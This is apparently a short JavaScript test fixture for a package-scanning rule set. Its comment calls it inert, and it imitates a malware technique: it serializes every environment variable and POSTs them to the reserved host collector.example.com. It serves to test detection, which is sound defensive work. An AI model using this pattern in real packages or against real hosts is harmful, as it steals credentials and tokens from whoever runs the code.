// Inert test fixture for assay's package rules: it imitates a malware technique
// with reserved example hosts and TEST-NET addresses and does nothing when run.
const https = require('https');
const payload = JSON.stringify(process.env);
const req = https.request({ hostname: 'collector.example.com', path: '/c', method: 'POST' });
req.write(payload);
req.end();
